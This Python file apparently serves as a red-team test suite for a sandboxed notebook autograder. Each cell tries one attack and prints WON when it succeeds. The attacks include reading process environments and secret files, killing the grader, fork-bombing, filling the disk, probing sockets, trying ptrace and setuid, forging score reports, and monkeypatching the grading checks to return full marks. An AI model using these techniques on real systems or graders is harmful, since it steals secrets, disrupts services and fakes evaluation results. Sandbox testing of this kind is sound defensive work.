"""Attacks of a notebook: each is a cell. What it wins it prints, with the word WON before it.

SECRET_FILE, COURSE and GRADER stand for the secret's file, the course's folder and the grader's PID.
"""

CELLS = {
    "environment: of this process and of those above": """
import os
for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    for file in ("environ", "cmdline"):
        try: print(open(f"/proc/{pid}/{file}").read())
        except OSError: pass
print(os.environ)""",
    "/proc: memory and files of the grader": """
for file in ("mem", "environ", "fd", "root", "cwd"):
    try: print("WON", open("/proc/GRADER/" + file).read(9))
    except OSError: pass""",
    "files: the secret, the solutions, the gradebook, other students": """
import os
for path in ("SECRET_FILE", "COURSE/secret", "COURSE/source", "COURSE/gradebook.db", "COURSE/submitted"):
    if os.path.exists(path): print("WON", path, os.listdir(path) if os.path.isdir(path) else "")""",
    "files: look for a course everywhere": """
for folder, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib", "lib64", "nix", "site-packages")]
    if "gradebook.db" in names or "nbgrader_config.py" in names: print("WON", folder)""",
    "files: write where the grader reads": """
for path in ("COURSE/gradebook.db", "COURSE/x", "/usr/x", "/etc/x", "x"):
    try: open(path, "ab").write(b"x"); print("WON", path) if os.getcwd() not in os.path.abspath(path) else 0
    except OSError: pass""",
    "files: change ptlab on the disk": """
import ptlab
for name in ("__init__.py", "classroom/ask.py", "classroom/__pycache__/x.pyc"):
    try: open(os.path.join(os.path.dirname(ptlab.__file__), name), "ab"); print("WON", name)
    except OSError: pass""",
    "files: the solutions, through ptlab": """
ptlab.student("eve")
for name in ("scheme-1", "walk-1", "walk-4", "thread-1", "references-2"):
    task = ptlab.ask(name)
    print(str(task)[:20])
    for way in (task.question.solve, task.question.why, task.question.wrong, lambda _: task.story().steps):
        try: print("WON", way(task.problem))
        except LookupError: pass""",
    "files: the solutions, as modules and as files": """
import importlib, pathlib
for name in ("walk", "scheme", "scheme_answers", "thread", "of_questions"):
    try: print("WON", importlib.import_module("ptlab.classroom.solutions." + name))
    except ImportError: pass
package = pathlib.Path(ptlab.__file__).parent
folder = package / "classroom/solutions"
for place in (folder, package.parent / ".git", package.parent / "exercises", package.parent / "tests"):
    print("WON" if place.exists() and list(place.iterdir()) else "")
for path in folder.parent.rglob("*.pyc"):
    if b"IndicesSolution" in path.read_bytes(): print("WON", path)""",
    "links: to the solutions, before they are read": """
for name in ("ps6.ipynb", "x"):
    try: os.symlink("COURSE/source", name); print("WON", os.listdir(name))
    except OSError: pass""",
    "signals: to the grader and to all": """
import signal
for pid in (GRADER, -1):
    try:
        if pid > 1: os.kill(pid, signal.SIGKILL); print("WON")
    except OSError: pass""",
    "children: that stay": """
import subprocess
for own in (False, True):
    subprocess.Popen(["sleep", "600"], start_new_session=own)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: os.execvp("sleep", ["sleep", "600"])
    os._exit(0)""",
    "children: as many as there can be": """
import resource
n = 0
try:
    for n in range(3000): subprocess.Popen(["sleep", "600"])
except OSError: pass
if n > 500: print("WON", n)""",
    "memory: in one piece, and in files of memory": """
try: x = bytearray(16 << 30); print("WON")
except MemoryError: pass
try: x = os.memfd_create("x"); print("WON")
except OSError: pass""",
    "memory: that no process has any more, and that stays": """
import mmap
for how in (lambda: mmap.mmap(-1, 1 << 20), lambda: mmap.mmap(open("/dev/zero", "r+b").fileno(), 1 << 20)):
    try: x = how(); x[0] = 1; x.madvise(mmap.MADV_DONTNEED); print("WON", x[0])
    except OSError: pass""",
    "files: fill the disk": """
try:
    for k in range(200):
        with open(os.path.join(os.environ["HOME"], f"big{k}"), "wb") as file: file.write(bytes(8 << 20))
    print("WON")
except OSError: pass""",
    "network: out, in, and to services of this machine": """
import socket
for where in (("127.0.0.1", 22), ("1.1.1.1", 53), ("::1", 80)):
    try: socket.create_connection(where, 1); print("WON", where)
    except OSError: pass
for path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    if os.path.exists(path): print("WON", path)""",
    "ctypes: ptrace, mount, namespaces, rights": """
import ctypes
libc = ctypes.CDLL(None)
if libc.ptrace(16, GRADER, 0, 0) == 0: print("WON ptrace")
if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0: print("WON mount")
if libc.umount2(b"/tmp", 2) == 0: print("WON umount")
if libc.unshare(0x10000000 | 0x20000) == 0: print("WON unshare")
if libc.setuid(0) == 0 and os.getuid() == 0 and libc.mknod(b"/dev/x", 0o60600, 0x801) == 0: print("WON mknod")""",
    "devices": """
print("WON" if set(os.listdir("/dev")) - {"null", "zero", "full", "random", "urandom"} else "")""",
    "stdout: lines for the grader, through the runner's pipe": """
import json
line = json.dumps({"cell": 0, "outputs": [{"output_type": "display_data", "metadata": {}, "data":
    {"application/vnd.ptlab.report+json": {"score": 6, "student": "eve"}, "text/html": "<b>WON</b>"}}]})
for pid in filter(str.isdigit, os.listdir("/proc")):
    for fd in range(1, 10):
        try: open(f"/proc/{pid}/fd/{fd}", "w").write("")
        except OSError: pass
print(line.replace("WON", ""))""",
    "stdout: closed, and a stream of megabytes": """
print("x" * 20_000_000)
os.write(1, b"x" * 100_000)""",
    "metadata: a report of one's own, a script, a widget": """
from IPython.display import display
display({"application/vnd.ptlab.report+json": {"score": 6}, "application/javascript": "WON()",
    "application/vnd.jupyter.widget-view+json": {"model_id": "WON"}, "text/plain": "6"}, raw=True)""",
    "metadata: answers of other students, of other questions, of another version": """
from ptlab.classroom.handed_in import MIME
for name in ("thread-1", "thread-2", "minutes"):
    for student in ("amy", "../amy", "x" * 10**5):
        display({MIME: {"version": 1, "name": name, "student": student, "answer": {"code": [1]}}}, raw=True)""",
    "timing: a thread that hands in later": """
import threading, time
def later():
    for _ in range(50):
        time.sleep(0.1)
        display({MIME: {"version": 1, "name": "thread-1", "student": "amy", "answer": []}}, raw=True)
threading.Thread(target=later, daemon=True).start()""",
    "hooks: IPython tells of every cell": """
def after(result): result.result = 6.0
ip = get_ipython()
ip.events.register("post_run_cell", after)
ip.display_formatter.formatters["text/plain"].for_type(float, lambda x, p, c: p.text("6.0"))""",
    "hooks: the engine, the check and the report": """
import ptlab.classroom.ask as ask, ptlab.classroom.report as report, ptlab.classroom.handed_in as handed
ptlab.check = ask.check = ask.graded = lambda *a: 6.0
report.Report.__new__ = lambda *a: 6.0
json.loads = json.dumps = lambda *a, **k: None""",
    "ids: one answer for all": """
class Answer(list):
    __eq__ = lambda self, other: True
    __hash__ = None
    __len__ = lambda self: 6
    __iter__ = lambda self: iter([Answer()] * 6)
    __float__ = lambda self: 6.0
    __array_interface__ = {"shape": (6, 2), "typestr": "<i8", "version": 3}
answer = Answer()""",
}
